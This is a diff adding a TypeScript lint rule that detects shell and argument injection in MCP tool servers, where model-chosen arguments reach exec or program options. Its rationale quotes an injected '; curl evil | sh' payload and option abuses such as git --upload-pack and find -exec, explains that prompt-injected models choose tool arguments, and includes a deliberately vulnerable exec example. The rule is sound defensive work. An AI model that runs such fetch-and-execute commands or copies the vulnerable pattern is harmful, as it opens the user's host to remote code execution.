@@ -1,0 +1,194 @@
+import { createRule, hasMark, skipOuter, stringParts, ts, type RuleContext, type TaintHit } from "../src/rule-api/index.js";
+import { describeSource, toolOf } from "../src/rule-api/describe-source.js";
+import { processLaunch, type ProcessLaunch } from "../src/rule-api/sinks/shell-sinks.js";
+
+/** Programs with options that run commands or write files: an argument starting with "-" takes them over. */
+const OPTION_SENSITIVE_PROGRAMS = new Set([
+  "git", "hg", "ssh", "scp", "sftp", "rsync", "tar", "find", "xargs", "curl", "wget", "zip", "unzip", "7z", "sed", "awk", "gawk",
+  "perl", "python", "python3", "node", "ruby", "php", "bash", "sh", "zsh", "env", "npm", "npx", "yarn", "pnpm", "bun", "deno",
+  "docker", "podman", "ffmpeg", "gh", "psql", "mysql", "sqlite3", "chromium", "google-chrome", "pip", "pip3", "uv", "uvx", "make",
+]);
+
+export default createRule({
+  id: "no-shell-injection",
+  meta: {
+    description: "Keep tool arguments out of shell command lines and out of the option position of programs",
+    severity: "critical",
+    confidence: "high",
+    checklist: ["TOOL-1", "TOOL-3", "API-1", "TOOL-2"],
+    cwe: ["CWE-78", "CWE-88"],
+    messages: {
+      shell: "{{source}} reaches {{api}}, which hands it to a shell: a prompt-injected model can run any command on the host.",
+      program: "{{source}} chooses the program {{api}} runs: a prompt-injected model can run any binary on the host.",
+      argumentInjection: "{{source}} can start with \"-\" in the argument list of `{{program}}` ({{api}}), where an option can run commands or overwrite files; put \"--\" before it or reject values starting with \"-\".",
+    },
+    docs: {
+      rationale:
+        "A tool's arguments are chosen by a model that any web page, issue or document can prompt-inject. A command line built from them and run by a shell (exec, execSync, spawn with shell: true, execaCommand, shelljs.exec) lets an injected `; curl evil | sh` run on the user's machine. Without a shell, a value that starts with `-` still becomes an option (git --upload-pack, find -exec, curl -o).",
+      remediation:
+        "Run the program without a shell and pass each value as its own argument: `execFile('git', ['log', '--', ref])`. Put `--` before values that are not options, or validate them with an anchored allowlist (`z.string().regex(/^[\\w.-]+$/)`, `z.enum([...])`). Never let the model choose the program.",
+      examples: {
+        bad: [
+          'import { exec } from "node:child_process";',
+          'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";',
+          'import { z } from "zod";',
+          'const server = new McpServer({ name: "git", version: "1.0.0" });',
+          'server.tool("git_log", { ref: z.string() }, async ({ ref }) => {',
+          "  exec(`git log ${ref}`, () => {});",
+          '  return { content: [{ type: "text", text: "started" }] };',
+          "});",
+        ].join("\n"),
+        good: [
+          'import { execFile } from "node:child_process";',
+          'import { McpServer } from "@modelcontextprotocol/sdk/server/mcp.js";',
+          'import { z } from "zod";',
+          'const server = new McpServer({ name: "git", version: "1.0.0" });',
+          'server.tool("git_log", { ref: z.string().regex(/^[\\w.\\/-]+$/) }, async ({ ref }) => {',
+          '  execFile("git", ["log", "--", ref], () => {});',
+          '  return { content: [{ type: "text", text: "started" }] };',
+          "});",
+        ].join("\n"),
+      },
+    },
+    references: ["https://cwe.mitre.org/data/definitions/78.html", "https://cwe.mitre.org/data/definitions/88.html", "https://nodejs.org/api/child_process.html#spawning-bat-and-cmd-files-on-windows"],
+  },
+  create(context) {
+    const check = (node: ts.CallExpression | ts.NewExpression | ts.TaggedTemplateExpression) => {
+      const launch = processLaunch(node, context);
+      if (launch) inspect(launch, context);
+    };
+    return { CallExpression: check, NewExpression: check, TaggedTemplateExpression: check };
+  },
+});
+
+function inspect(launch: ProcessLaunch, context: RuleContext): void {
+  if (launch.shellCommand) {
+    const hit = unsanitized(context.taint(launch.shellCommand.expr));
+    const fromArgs = launch.shellArgs ? unsanitized(context.taint(launch.shellArgs)) : undefined;
+    const first = hit ?? fromArgs;
+    if (first) {
+      context.report({
+        node: launch.call,
+        messageId: "shell",
+        data: { source: describeSource(first), api: launch.api },
+        trace: context.trace(first, launch.shellCommand.expr, `runs a shell command (${launch.api})`),
+        ...toolOf(first, launch.call, context),
+        ...fixFor(launch, context),
+      });
+    }
+    return;
+  }
+  if (launch.program) {
+    // A fixed first word ("kubectl ..." split on spaces) keeps the program fixed.
+    const hit = context.taint(launch.program).find((h) => !safeEverywhere(h) && !hasMark(h.taint, "prefixed"));
+    if (hit) {
+      context.report({ node: launch.call, messageId: "program", data: { source: describeSource(hit), api: launch.api }, trace: context.trace(hit, launch.program, "chooses the program"), ...toolOf(hit, launch.call, context) });
+      return;
+    }
+    const program = context.constantText(launch.program);
+    if (program && launch.args) argumentInjection(launch, program, launch.args, context);
+    return;
+  }
+  if (launch.quotedPieces) {
+    const program = programOfTemplate(launch.call);
+    if (!program) return;
+    for (const piece of launch.quotedPieces) {
+      const hit = context.taint(piece).find((h) => canStartOption(h));
+      if (hit && !precededByDoubleDash(launch.call, piece)) {
+        report(hit, program, piece, launch, context);
+        return;
+      }
+    }
+  }
+}
+
+function argumentInjection(launch: ProcessLaunch, program: string, args: ts.Expression, context: RuleContext): void {
+  const name = program.split(/[\\/]/).pop()?.replace(/\.(exe|cmd|bat)$/i, "") ?? program;
+  if (!OPTION_SENSITIVE_PROGRAMS.has(name)) return;
+  const list = skipOuter(args);
+  const elements = ts.isArrayLiteralExpression(list) ? list.elements : undefined;
+  if (!elements) return;
+  for (const el of elements) {
+    const text = context.constantText(el);
+    if (text === "--") return;
+    const value = ts.isSpreadElement(el) ? el.expression : el;
+    const hit = context.taint(value).find((h) => canStartOption(h));
+    if (hit) {
+      report(hit, name, value, launch, context);
+      return;
+    }
+  }
+}
+
+function report(hit: TaintHit, program: string, at: ts.Expression, launch: ProcessLaunch, context: RuleContext): void {
+  context.report({
+    node: at,
+    messageId: "argumentInjection",
+    data: { source: describeSource(hit), program, api: launch.api },
+    severity: "high",
+    confidence: "medium",
+    trace: context.trace(hit, at, `becomes an argument of ${program}`),
+    ...toolOf(hit, launch.call, context),
+  });
+}
+
+function safeEverywhere(h: TaintHit): boolean {
+  return hasMark(h.taint, "number") || hasMark(h.taint, "const") || hasMark(h.taint, "regex");
+}
+
+function unsanitized(hits: TaintHit[]): TaintHit | undefined {
+  return hits.find((h) => !safeEverywhere(h) && !hasMark(h.taint, "shell-quoted") && !hasMark(h.taint, "uri-encoded"));
+}
+
+function canStartOption(h: TaintHit): boolean {
+  return !safeEverywhere(h) && !hasMark(h.taint, "prefixed") && !hasMark(h.taint, "url-path");
+}
+
+function precededByDoubleDash(call: ts.Node, piece: ts.Expression): boolean {
+  if (!ts.isTaggedTemplateExpression(call) || !ts.isTemplateExpression(call.template)) return false;
+  let text = call.template.head.text;
+  for (const span of call.template.templateSpans) {
+    if (span.expression === piece) return /(^|\s)--\s*$/.test(text) || /(^|\s)--\s/.test(text);
+    text += ` x ${span.literal.text}`;
+  }
+  return false;
+}
+
+function programOfTemplate(call: ts.Node): string | undefined {
+  if (!ts.isTaggedTemplateExpression(call)) return undefined;
+  const head = ts.isTemplateExpression(call.template) ? call.template.head.text : call.template.text;
+  const program = head.trim().split(/\s+/)[0];
+  return program && OPTION_SENSITIVE_PROGRAMS.has(program) ? program : undefined;
+}
+
+/** exec(`git log ${ref}`) → execFile("git", ["log", ref]) when the template is plain words. */
+function fixFor(launch: ProcessLaunch, context: RuleContext): { fix?: { description: string; replacement?: { location: ReturnType<RuleContext["step"]>["location"]; text: string } } } {
+  const cmd = launch.shellCommand?.expr;
+  if (!cmd || launch.shellArgs || !ts.isCallExpression(launch.call)) return {};
+  const parts = stringParts(skipOuter(cmd));
+  if (!parts) return {};
+  const words: string[] = [];
+  let current = "";
+  for (const p of parts) {
+    if (p.kind === "text") {
+      if (/["'`|&;<>$()\\*?{}[\]~]/.test(p.text)) return {};
+      const pieces = p.text.split(/\s+/);
+      current += pieces[0] ?? "";
+      for (const piece of pieces.slice(1)) {
+        if (current) words.push(JSON.stringify(current));
+        current = piece;
+      }
+    } else {
+      if (current) return {};
+      words.push(p.expr.getText());
+      current = "";
+    }
+  }
+  if (current) words.push(JSON.stringify(current));
+  const [program, ...rest] = words;
+  if (!program || !program.startsWith('"')) return {};
+  const callee = launch.call.expression.getText().replace(/exec(Sync)?$/, (m) => (m === "execSync" ? "execFileSync" : "execFile"));
+  const tail = launch.call.arguments.slice(1).map((a) => a.getText());
+  const text = `${callee}(${[program, `[${rest.join(", ")}]`, ...tail].join(", ")})`;
+  return { fix: { description: "Run the program without a shell, one argument per value", replacement: { location: context.step(launch.call, "sink", "").location, text } } };
+}
